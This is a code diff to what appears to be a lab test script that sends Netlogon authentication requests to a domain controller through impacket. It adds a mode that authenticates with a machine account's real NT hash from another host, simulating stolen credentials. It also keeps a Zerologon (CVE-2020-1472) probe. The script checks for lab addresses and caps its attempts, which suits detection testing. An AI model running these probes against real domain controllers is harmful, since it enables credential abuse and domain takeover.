@@ -3,13 +3,18 @@
 
 Only NetrServerReqChallenge (opnum 4) and NetrServerAuthenticate3 (opnum 26)
 are sent; both travel in the clear, so impacket 0.10's broken AES schannel
-sign/seal is never used. Two modes:
+sign/seal is never used. Three modes:
 
   wrong-password  one ReqChallenge + Authenticate3 whose ClientCredential is
                   computed (AES, MS-NRPC 3.1.4.3.1/3.1.4.4.1) from an NT hash
                   that is not the account's current one (a made-up password,
                   or --nthash: e.g. the RC4 key of a stale keytab)
                   -> STATUS_ACCESS_DENIED.
+  authenticate    the same exchange with the account's real NT hash (--nthash,
+                  e.g. DC1$'s from the lab's exported keys) and the channel
+                  type of --channel: someone else's credentials used from
+                  this host (issue 10, "an attacker's address is not the
+                  victim's") -> STATUS_SUCCESS.
   zerologon       up to --attempts (default 20, hard cap 50) pairs with an
                   all-zero client challenge and credential, account DC$,
                   ServerSecureChannel, flags 0x212fffff (CVE-2020-1472 probe
@@ -55,20 +60,24 @@ def auth3(dce, account, computer, chan, cred, flags):
 
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("mode", choices=["wrong-password", "zerologon"])
+    ap.add_argument("mode", choices=["wrong-password", "authenticate", "zerologon"])
     ap.add_argument("--dc", required=True)
     ap.add_argument("--transport", choices=["tcp", "np"], default="tcp")
     ap.add_argument("--computer", required=True, help="NetBIOS name without $")
     ap.add_argument("--password", default="not-the-machine-password")
     ap.add_argument("--nthash", help="hex NT hash (= the RC4 key of a keytab) to use instead of --password")
     ap.add_argument("--attempts", type=int, default=20)
+    ap.add_argument("--channel", choices=["workstation", "server"], default="workstation",
+                    help="secure channel type of wrong-password/authenticate (server: a DC's account)")
     a = ap.parse_args()
     if not a.dc.startswith(LAB_NET):
         sys.exit("refusing: %s is not a lab address" % a.dc)
 
     dce, binding = connect(a.dc, a.transport)
     print("bound NETLOGON via", binding)
-    if a.mode == "wrong-password":
+    if a.mode == "authenticate" and not a.nthash:
+        sys.exit("authenticate needs --nthash")
+    if a.mode in ("wrong-password", "authenticate"):
         if a.nthash:
             nthash = bytes.fromhex(a.nthash)
         else:
@@ -78,9 +87,9 @@ def main():
         sc = r["ServerChallenge"]
         sk = nrpc.ComputeSessionKeyAES(None, cc, sc, nthash)
         cred = nrpc.ComputeNetlogonCredentialAES(cc, sk)
-        rc = auth3(dce, a.computer + "$", a.computer,
-                   nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel,
-                   cred, 0x612FFFFF)
+        chan = (nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel if a.channel == "server"
+                else nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel)
+        rc = auth3(dce, a.computer + "$", a.computer, chan, cred, 0x612FFFFF)
         print("NetrServerAuthenticate3 -> 0x%08x" % rc)
     else:
         n = max(1, min(a.attempts, 50))
